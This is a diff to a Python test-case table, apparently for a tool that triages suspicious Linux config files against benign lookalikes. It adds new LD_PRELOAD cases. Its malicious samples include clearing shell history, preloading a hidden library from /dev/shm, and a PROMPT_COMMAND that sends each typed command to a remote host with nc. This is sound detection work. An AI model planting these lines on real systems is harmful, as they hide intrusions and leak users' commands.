@@ -658,7 +658,11 @@ CASES = {
     "TRI-CONF-040": ({"/root/.bash_logout": "unset HISTFILE\n"},
                      {"/root/.bash_logout": DEBIAN_LOGOUT, "/root/.bashrc": DEBIAN_BASHRC}),
     "TRI-CONF-041": ({"/etc/environment": 'PATH="/usr/local/bin:/usr/bin:/bin"\nLD_PRELOAD=/usr/lib/libsystem.so\n'},
-                     {"/etc/environment": 'PATH="/usr/local/bin:/usr/bin:/bin"\nLD_LIBRARY_PATH=/opt/oracle/lib\n'}),
+                     {"/etc/environment": 'PATH="/usr/local/bin:/usr/bin:/bin"\nLD_LIBRARY_PATH=/opt/oracle/lib\n'
+                      "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n"}),
+    "TRI-CONF-044": ({"/etc/profile.d/locale.sh": "export LD_PRELOAD=/dev/shm/.libc-2.31.so\n"},
+                     {"/etc/profile.d/locale.sh": "export LD_PRELOAD="
+                      "/usr/lib/x86_64-linux-gnu/libtcmalloc_minimal.so.4\n"}),
     "TRI-CONF-042": ({"/etc/profile.d/audit.sh": "export PROMPT_COMMAND='history 1 | nc -q0 203.0.113.8 9001'\n"},
                      {"/etc/profile.d/audit.sh": "export PROMPT_COMMAND='RETRN_VAL=$?;logger -p local6.debug "
                       "\"$(whoami) [$$]: $(history 1 | sed \"s/^[ ]*[0-9]\\+[ ]*//\" ) [$RETRN_VAL]\"'\n"
